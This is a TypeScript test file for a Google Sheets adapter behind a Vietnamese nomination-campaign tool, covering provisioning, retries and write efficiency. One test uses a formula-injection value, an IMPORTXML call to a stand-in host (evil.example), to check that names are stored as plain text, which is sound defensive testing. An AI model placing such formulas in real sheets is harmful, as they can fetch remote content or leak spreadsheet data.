/**
 * What only the Google Sheets adapter has to show: how many calls a job makes, how the sheet is provisioned, and how
 * it behaves when Google fails — all through the real `@googleapis/sheets` client against the Sheets fake.
 */
import { describe, expect, test } from 'vitest';
import { STATUS_LABEL } from '../../shared/domain/vocabulary.js';
import { CampaignRepository } from '../../shared/store/campaign-repository.js';
import { cellA1, columnLetters } from '../../shared/google/sheets/a1.js';
import { ATTENTION_FILL, COUNCIL_FILL } from '../../shared/google/sheets/provision.js';
import { layoutsFor, type TabLayout } from '../../shared/store/layouts.js';
import { StoreError } from '../../shared/store/table-store.js';
import { Faults, type FakeSheets } from '../fakes/sheets-fake.js';
import { campaigns, rawIndividual, scoresTotalling, vanNinh } from '../support/builders.js';
import { googleStore, newFake, rawClient, serveFakeSheets, SERVICE_ACCOUNT } from './google-sheets-contract-harness.js';
import { PEOPLE, person } from './table-store.contract.js';
import { initCampaign } from '../../shared/jobs/init-campaign.js';
import { intake as takeIn } from '../../shared/jobs/intake.js';
import { recompute } from '../../shared/jobs/recompute.js';
import { snapshotOf } from '../support/campaign.js';

serveFakeSheets();

const NOW = new Date('2024-08-20T02:00:00Z');
const LATER = new Date('2024-08-21T02:00:00Z');
const submit = (...payloads: unknown[]) => payloads.map((payload, i) => ({ payload, source: `test#${i + 1}` }));
const tabs = (): TabLayout[] => [...layoutsFor(vanNinh()).values()];
const nominationsTab = (): TabLayout => layoutsFor(vanNinh()).get('nominations')!;

/** The calls made, by method, leaving out methods not called. */
const calls = (fake: FakeSheets): Record<string, number> => Object.fromEntries(Object.entries(fake.counts).filter(([, n]) => n > 0));
const total = (fake: FakeSheets): number => Object.values(fake.counts).reduce((a, b) => a + b, 0);

async function storeError(promise: Promise<unknown>): Promise<StoreError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(StoreError);
  return error as StoreError;
}

/** A fresh spreadsheet with the campaign's tabs, and a store on it. */
async function provisioned(options: Parameters<typeof googleStore>[1] = {}) {
  const fake = newFake();
  const id = fake.createSpreadsheet({ title: 'Thi đua Vạn Ninh' });
  const { store, waits } = googleStore(id, options);
  const campaign = await initCampaign(store, vanNinh());
  fake.resetCounts();
  return { fake, id, store, waits, campaign };
}

describe('provisioning the council sheet', () => {
  test('creates every tab in one atomic batchUpdate: frozen header, headers as text, dropdowns, protected computed columns, coloured rows', async () => {
    const fake = newFake();
    const id = fake.createSpreadsheet();
    await googleStore(id).store.ensureTabs(tabs());
    expect(calls(fake)).toEqual({ 'spreadsheets.get': 1, 'spreadsheets.batchUpdate': 1 });

    const tab = nominationsTab();
    const sheet = fake.sheet(id, tab.title);
    expect(sheet.properties.gridProperties.frozenRowCount).toBe(1);
    expect(fake.values(id, `'${tab.title}'!1:1`)).toEqual([tab.columns.map((c) => c.header)]);
    expect(fake.cell(id, cellA1(tab.title, 0, 1))).toEqual({ kind: 'text', text: 'Mã phản hồi' });

    const status = tab.columns.findIndex((c) => c.key === 'status');
    const dropdowns = sheet.dataValidations.map((v) => ({ col: v.range.startColumnIndex, type: v.rule?.condition?.type, labels: v.rule?.condition?.values?.map((x) => x.userEnteredValue) }));
    // the status is computed: no dropdown (the engine writes it); the columns the council fills have one
    expect(dropdowns.map((d) => d.col)).not.toContain(status);
    for (const [col, c] of tab.columns.entries()) if (c.choices && !c.computed) expect(dropdowns).toContainEqual({ col, type: 'ONE_OF_LIST', labels: c.choices });

    const locked = sheet.protectedRanges.filter((p) => !p.warningOnly);
    for (const [col, c] of tab.columns.entries()) {
      const covering = locked.filter((p) => (p.range?.startColumnIndex ?? 0) <= col && col < (p.range?.endColumnIndex ?? Infinity));
      expect(covering.length, `column "${c.header}"`).toBe(c.computed ? 1 : 0);
      if (c.computed) expect(covering[0]?.editors?.users).toContain(SERVICE_ACCOUNT);
    }

    const letter = columnLetters(status);
    expect(sheet.conditionalFormats.map((r) => [r.booleanRule?.condition?.values?.[0]?.userEnteredValue, r.booleanRule?.format?.backgroundColor])).toEqual([
      [`=$${letter}2="Không đủ điều kiện"`, ATTENTION_FILL],
      [`=$${letter}2="Trùng đề nghị"`, ATTENTION_FILL],
      [`=$${letter}2="Chờ Hội đồng quyết định"`, COUNCIL_FILL],
      [`=$${letter}2="Cần bổ sung hồ sơ"`, COUNCIL_FILL],
      [`=$${letter}2="Không được Hội đồng thông qua"`, ATTENTION_FILL],
      [`=$${letter}2="Chờ Hội đồng biểu quyết"`, COUNCIL_FILL],
    ]);
  });

  test('leaves an existing tab as it is, and a second run makes no batchUpdate at all', async () => {
    const fake = newFake();
    const handMade = [['Mã phản hồi', 'Ghi chú riêng'], ['r-cũ', 'do Hội đồng nhập']];
    const id = fake.createSpreadsheet({ sheets: [{ title: nominationsTab().title, rows: handMade }] });
    const { store } = googleStore(id);
    await store.ensureTabs(tabs());
    expect(fake.values(id, `'${nominationsTab().title}'`)).toEqual(handMade);
    expect(fake.sheet(id, nominationsTab().title).protectedRanges).toEqual([]);
    expect(fake.spreadsheet(id).sheets.map((s) => s.properties.title).sort()).toEqual(tabs().map((t) => t.title).sort());

    fake.resetCounts();
    await store.ensureTabs(tabs());
    expect(calls(fake)).toEqual({ 'spreadsheets.get': 1 });
  });

  test('is all or nothing: a tab whose name differs only in case fails the batch, and no tab is created', async () => {
    const fake = newFake();
    const id = fake.createSpreadsheet({ sheets: [{ title: 'Sheet1' }, { title: 'hồ sơ đề nghị' }] });
    const error = await storeError(googleStore(id).store.ensureTabs(tabs()));
    expect(error.context.tab).toBe('Hồ sơ đề nghị');
    expect(error.message).toContain('chỉ khác chữ hoa, chữ thường');
    expect(fake.spreadsheet(id).sheets.map((s) => s.properties.title)).toEqual(['Sheet1', 'hồ sơ đề nghị']);
    expect(fake.appliedRequests(id)).toEqual([]);
  });

  test('is all or nothing when Google keeps failing: after the last attempt nothing is half-provisioned', async () => {
    const fake = newFake();
    const id = fake.createSpreadsheet();
    fake.faults.addRule({ methods: 'spreadsheets.batchUpdate', fault: Faults.internal() });
    const { store, waits } = googleStore(id);
    const error = await storeError(store.ensureTabs(tabs()));
    expect(error.message).toContain('sau 6 lần thử');
    expect(waits).toHaveLength(5);
    expect(fake.spreadsheet(id).sheets.map((s) => s.properties.title)).toEqual(['Sheet1']);
  });

  test('succeeds when the answer to a provisioning that went through was lost and the retry finds the tabs there', async () => {
    const fake = newFake();
    const id = fake.createSpreadsheet();
    fake.faults.enqueue(Faults.appliedThenDrop(), 'spreadsheets.batchUpdate');
    await googleStore(id).store.ensureTabs(tabs());
    expect(fake.spreadsheet(id).sheets.map((s) => s.properties.title)).toEqual(['Sheet1', ...tabs().map((t) => t.title)]);
    expect(fake.counts['spreadsheets.batchUpdate']).toBe(2);
  });
});

describe('reading what the API really returns', () => {
  test('numbers stay numbers, a date typed by hand reads as shown, omitted trailing cells are null', async () => {
    const fake = newFake();
    const id = fake.createSpreadsheet();
    const { store } = googleStore(id);
    await store.ensureTabs([PEOPLE]);
    await rawClient().spreadsheets.values.update({
      spreadsheetId: id,
      range: `'${PEOPLE.title}'!A2`,
      valueInputOption: 'USER_ENTERED',
      requestBody: { values: [['r1', 'Lê Thị Hoa', '2024-08-15', '13.5']] },
    });
    expect((await store.readTabs([PEOPLE])).get('nominations')).toEqual([
      { responseId: 'r1', name: 'Lê Thị Hoa', unit: '2024-08-15', score: 13.5, status: null, note: null, __row: 2 },
    ]);
  });

  test('names the header cell changed by hand in A1 notation', async () => {
    const fake = newFake();
    const id = fake.createSpreadsheet();
    const { store } = googleStore(id);
    await store.ensureTabs([PEOPLE]);
    await rawClient().spreadsheets.values.update({ spreadsheetId: id, range: cellA1(PEOPLE.title, 1, 1), valueInputOption: 'RAW', requestBody: { values: [['Tên']] } });
    const error = await storeError(store.readTabs([PEOPLE]));
    expect(error.context).toEqual({ tab: 'Hồ sơ đề nghị', cell: "'Hồ sơ đề nghị'!B1" });
    expect(error.message).toBe(`Trang tính "Hồ sơ đề nghị" thiếu cột "Họ và tên" ở hàng tiêu đề (hàng 1): ô 'Hồ sơ đề nghị'!B1 đang ghi "Tên". Hãy sửa lại tiêu đề cột cho đúng.`);
  });
});

describe('writing efficiently and safely', () => {
  test('stores a formula-looking name as text (written RAW)', async () => {
    const { fake, id, campaign } = await provisioned();
    const name = '=IMPORTXML("https://evil.example/x", "//a")';
    await takeIn(campaign, submit(rawIndividual({ responseId: 'f', name })), NOW);
    const col = nominationsTab().columns.findIndex((c) => c.key === 'name');
    expect(fake.cell(id, cellA1(nominationsTab().title, col, 2))).toEqual({ kind: 'text', text: name });
  });

  test('stores a row once when its key is already in the sheet or repeated in the batch', async () => {
    const fake = newFake();
    const id = fake.createSpreadsheet();
    const { store } = googleStore(id);
    await store.ensureTabs([PEOPLE]);
    await store.write([{ tab: PEOPLE, append: [person('r1'), person('r1', { name: 'lần hai' })] }]);
    await store.write([{ tab: PEOPLE, append: [person('r1', { name: 'giao lại' }), person('r2')] }]);
    expect((await store.readTabs([PEOPLE])).get('nominations')?.map((r) => [r.responseId, r.name])).toEqual([
      ['r1', 'Người r1'],
      ['r2', 'Người r2'],
    ]);
  });

  test('splits a large write into requests under the size limit and lands every row', async () => {
    const fake = newFake();
    const id = fake.createSpreadsheet();
    const { store } = googleStore(id, { maxRequestBytes: 2_000 });
    await store.ensureTabs([PEOPLE]);
    const rows = Array.from({ length: 60 }, (_, i) => person(`r${i}`, { note: 'Minh chứng '.repeat(5) }));
    fake.resetCounts();
    await store.write([{ tab: PEOPLE, append: rows }]);
    expect(fake.counts['values.batchUpdate']).toBeGreaterThan(3);
    expect((await store.readTabs([PEOPLE])).get('nominations')).toHaveLength(60);
  });

  test('grows a tab that is full before writing below its last row', async () => {
    const fake = newFake();
    const id = fake.createSpreadsheet();
    const { store } = googleStore(id);
    await store.ensureTabs([PEOPLE]);
    fake.resetCounts();
    await store.write([{ tab: PEOPLE, append: Array.from({ length: 1200 }, (_, i) => person(`r${i}`)) }]);
    // growing reads every tab's grid first (the cell budget), then adds the rows
    expect(calls(fake)).toEqual({ 'values.batchGet': 1, 'spreadsheets.get': 1, 'spreadsheets.batchUpdate': 1, 'values.batchUpdate': 1 });
    expect(fake.sheet(id, PEOPLE.title).properties.gridProperties.rowCount).toBe(2000);
    expect((await store.readTabs([PEOPLE])).get('nominations')?.at(-1)).toMatchObject({ responseId: 'r1199', __row: 1201 });
  });

  /** GIVEN a sheet with n nominations taken in, WHEN the council recomputes twice, THEN the calls do not grow with n. */
  async function recomputeCalls(n: number): Promise<{ intake: number; first: number; steady: Record<string, number> }> {
    const { fake, campaign } = await provisioned();
    const totals = [100, 99, 98, 97, 96, 95];
    const payloads = Array.from({ length: n }, (_, i) => rawIndividual({ responseId: `n-${i}`, selfScores: scoresTotalling('individual', totals[i % totals.length]!) }));
    await takeIn(campaign, submit(...payloads), NOW);
    const intake = total(fake);
    fake.resetCounts();
    const { decisions } = await recompute(campaign, NOW);
    expect(decisions).toHaveLength(n);
    const first = total(fake);
    fake.resetCounts();
    await recompute(campaign, LATER);
    return { intake, first, steady: calls(fake) };
  }

  test('recomputes 100 and 1,000 nominations in the same small number of calls', async () => {
    const small = await recomputeCalls(100);
    const large = await recomputeCalls(1_000);
    // A recompute that changes nothing reads once (its snapshot) and writes nothing: only changed rows are sent.
    expect(large.steady).toEqual({ 'values.batchGet': 1 });
    expect(small.steady).toEqual(large.steady);
    // The first recompute reads once and writes once (rows placed from that read); for 1,000 the audit tab
    // (~2,000 new rows) grows once: two more calls (the grids, for the cell budget, and the growth).
    expect(small.first).toBe(2);
    expect(large.first).toBeLessThanOrEqual(4);
    // Intake: one read (the write places its rows from it), one write (+2 to grow the tabs for 1,000 rows).
    expect(small.intake).toBe(2);
    expect(large.intake).toBeLessThanOrEqual(4);
  });
});

describe('when Google fails', () => {
  /** A sheet with just the PEOPLE tab, and a store on it. */
  async function people(options: Parameters<typeof googleStore>[1] = {}) {
    const fake = newFake();
    const id = fake.createSpreadsheet();
    const { store, waits } = googleStore(id, options);
    await store.ensureTabs([PEOPLE]);
    fake.resetCounts();
    const ids = async () => ((await store.readTabs([PEOPLE])).get('nominations') ?? []).map((r) => r.responseId);
    return { fake, id, store, waits, ids };
  }

  test.each([
    ['429 (quota)', Faults.rateLimited()],
    ['503', Faults.unavailable()],
    ['500', Faults.internal()],
    ['a dropped connection', Faults.drop()],
    ['a write applied whose answer was lost', Faults.appliedThenDrop()],
    ['a write applied then answered 503', Faults.appliedThenError(503)],
  ])('retries a write after %s and stores the row once', async (_, fault) => {
    const { fake, store, waits, ids } = await people();
    fake.faults.enqueue(fault, 'values.batchUpdate');
    await store.write([{ tab: PEOPLE, append: [person('r1'), person('r2')] }]);
    expect(fake.counts['values.batchUpdate']).toBe(2);
    expect(waits).toEqual([500]);
    expect(await ids()).toEqual(['r1', 'r2']);
  });

  test('retries a read after a 429', async () => {
    const { fake, store } = await people();
    fake.faults.enqueue(Faults.rateLimited(), 'values.batchGet');
    expect((await store.readTabs([PEOPLE])).get('nominations')).toEqual([]);
    expect(fake.counts['values.batchGet']).toBe(2);
  });

  test('waits with truncated exponential backoff and full jitter between attempts', async () => {
    const { fake, store, waits, ids } = await people({ retry: { maxAttempts: 8, baseDelayMs: 1_000, maxDelayMs: 8_000 } });
    fake.faults.addRule({ methods: 'values.batchUpdate', fault: Faults.rateLimited(), times: 6 });
    await store.write([{ tab: PEOPLE, append: [person('r1')] }]);
    expect(waits).toEqual([500, 1_000, 2_000, 4_000, 4_000, 4_000]);
    expect(await ids()).toEqual(['r1']);
  });

  test('gives up after the last attempt with a StoreError carrying the cause, having written nothing', async () => {
    const { fake, store, ids } = await people();
    fake.faults.addRule({ methods: 'values.batchUpdate', fault: Faults.unavailable() });
    const error = await storeError(store.write([{ tab: PEOPLE, append: [person('r1')] }]));
    expect(fake.counts['values.batchUpdate']).toBe(6);
    expect(error.message).toContain('sau 6 lần thử (mã lỗi HTTP 503)');
    expect(error.cause).toMatchObject({ status: 503 });
    fake.faults.clear();
    expect(await ids()).toEqual([]);
  });

  test('does not retry a request Google refuses as invalid (400)', async () => {
    const { fake, store } = await people();
    fake.faults.enqueue({ kind: 'error', status: 400, message: 'Invalid value' }, 'values.batchUpdate');
    const error = await storeError(store.write([{ tab: PEOPLE, append: [person('r1')] }]));
    expect(error.message).toContain('Google Sheets từ chối yêu cầu ghi dữ liệu: Invalid value');
    expect(fake.counts['values.batchUpdate']).toBe(1);
  });

  test('retries a request that outlives its timeout', async () => {
    const { fake, store, ids } = await people({ timeoutMs: 50 });
    fake.faults.enqueue(Faults.slow(300), 'values.batchGet');
    await store.write([{ tab: PEOPLE, append: [person('r1')] }]);
    expect(fake.counts['values.batchGet']).toBe(2);
    expect(await ids()).toEqual(['r1']);
  });

  test('a spreadsheet id that does not exist: says to check the id and share the sheet with the service account', async () => {
    newFake();
    const { store } = googleStore('khong-co-bang-tinh-nay');
    const error = await storeError(store.ensureTabs([PEOPLE]));
    expect(error.message).toContain('Không tìm thấy bảng tính "khong-co-bang-tinh-nay"');
    expect(error.message).toContain(`thêm ${SERVICE_ACCOUNT} với quyền Người chỉnh sửa`);
    expect(error.context.location).toBe('https://docs.google.com/spreadsheets/d/khong-co-bang-tinh-nay');
  });

  test('a sheet not shared with the service account: says to share it, without retrying', async () => {
    const fake = newFake();
    const id = fake.createSpreadsheet({ access: 'none' });
    const error = await storeError(googleStore(id).store.readTabs([PEOPLE]));
    expect(error.message).toContain('Không có quyền đọc các trang tính');
    expect(error.message).toContain(`thêm ${SERVICE_ACCOUNT} với quyền Người chỉnh sửa`);
    expect(fake.counts['values.batchGet']).toBe(1);
  });

  test('a sheet shared read-only: the write is refused with the same advice and nothing is overwritten', async () => {
    const { fake, id, store, ids } = await people();
    await store.write([{ tab: PEOPLE, append: [person('r1')] }]);
    fake.setAccess(id, 'view');
    const error = await storeError(store.write([{ tab: PEOPLE, updateByKey: [{ responseId: 'r1', name: 'Ghi đè' }] }]));
    expect(error.message).toContain('chỉ được chia sẻ quyền xem');
    expect(await ids()).toEqual(['r1']);
    expect((await store.readTabs([PEOPLE])).get('nominations')?.[0]?.name).toBe('Người r1');
  });
});

describe('the campaign over Google Sheets', () => {
  test('takes nominations in, recomputes, and reopens from the sheet alone', async () => {
    const { fake, id, campaign } = await provisioned();
    const outcomes = await takeIn(campaign, 
      submit(rawIndividual({ responseId: 'a' }), { responseId: 'b' }, rawIndividual({ responseId: 'a' }), rawIndividual({ responseId: 'c', name: 'Võ Thị Sáu' })),
      NOW,
    );
    expect(outcomes.map((o) => o.kind)).toEqual(['accepted', 'rejected', 'duplicate', 'accepted']);
    const { decisions } = await recompute(campaign, NOW);
    expect(decisions.map((d) => [d.responseId, d.status])).toEqual([
      ['a', 'proposed'],
      ['c', 'proposed'],
    ]);
    const reopened = await CampaignRepository.open(googleStore(id).store, campaigns);
    expect(reopened.campaign.id).toBe('van-ninh-dan-van-kheo');
    const { nominations } = await snapshotOf(reopened);
    expect(nominations.map((n) => n.name)).toContain('Võ Thị Sáu');
    expect(fake.values(id, `'${layoutsFor(vanNinh()).get('rejections')!.title}'`)).toHaveLength(2);
  });

  test('stores one row when two stores on the same sheet take in the same responseId at once', async () => {
    const { id, store, campaign } = await provisioned();
    const other = await CampaignRepository.open(googleStore(id).store, campaigns);
    const raw = rawIndividual({ responseId: 'twice' });
    const outcomes = await Promise.all([takeIn(campaign, submit(raw), NOW), takeIn(other, submit(raw), NOW)]);
    expect(outcomes.flat().map((o) => o.kind).sort()).toEqual(['accepted', 'duplicate']);
    const rows = (await store.readTabs([nominationsTab()])).get('nominations') ?? [];
    expect(rows.filter((r) => r.responseId === 'twice')).toHaveLength(1);
  });
});
